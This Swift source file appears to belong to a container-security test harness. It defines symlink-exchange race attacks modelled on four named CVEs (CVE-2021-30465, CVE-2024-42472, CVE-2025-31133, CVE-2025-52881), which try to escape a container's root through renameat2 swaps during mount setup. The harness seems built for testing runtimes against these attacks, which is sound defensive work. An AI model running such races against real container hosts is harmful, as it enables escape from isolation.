import Glibc

/// Images that change while containers start.
extension Attack {
  /// A second process makes a link of what is there, and what was there of the link: renameat2(2), RENAME_EXCHANGE.
  static let race = [
    race("thousands of times", "CVE-2021-30465", "work", linkedTo: "", ["/work", "/work/deep/er"], at: "/work"),
    race("above a mount", "CVE-2024-42472", "opt", linkedTo: "", ["/opt/dir", "/opt/deep/er"], at: "/opt"),
    race("over a file", "CVE-2025-31133", "etc/mark", linkedTo: "/file", ["/etc/mark"], at: "/etc"),
    race("over /proc", "CVE-2025-52881", "proc", linkedTo: "/dir", ["/work"], at: "/proc"),
  ]

  /// - Parameters:
  ///   - name: what of the root is exchanged with a link to the victim, or to `linkedTo` below it.
  ///   - places: where something is bound.
  ///   - written: where the program inside writes.
  private static func race(
    _ attack: String, _ source: String, _ name: String, linkedTo: String, _ places: [String], at written: String
  ) -> Attack {
    Attack(kind: "a link exchanged with a directory", name: attack, source: source) { arena in
      try arena.sandbox.prepare(
        """
        mkdir -p root/work root/opt/dir; ln -s '\(arena.victim)\(linkedTo)' root/other; echo x >root/etc/mark; cp root/etc/mark mark
        """)
      let exchanger = try arena.sandbox.start([
        arena.sandbox.root + "/bin/attack", "exchange", "root/\(name)", "root/other",
      ])
      try exchanger.waitForOutput("exchanging")
      var escapes: [String] = []
      let end = now() + 4
      for round in 0..<40 where now() < end {
        let place = places[round % places.count]
        let from = place == "/etc/mark" ? "mark" : "work"
        let layers = layers(arena)
        escapes += try arena.attack(
          ["places", written], ["-v", "\(from):\(place)"] + layers[round / 2 % layers.count],
          bubblewrap: ["--bind", from, place], mayBeRefused: true)
      }
      exchanger.signal(SIGTERM)
      let seen = try exchanger.wait()
      let count = seen.output.split(separator: " ").last.flatMap { Int($0.filter(\.isNumber)) } ?? 0
      return escapes + (seen.status == 0 && count > 2000 ? [] : ["it was exchanged \(count) times only: \(seen)"])
    }
  }
}
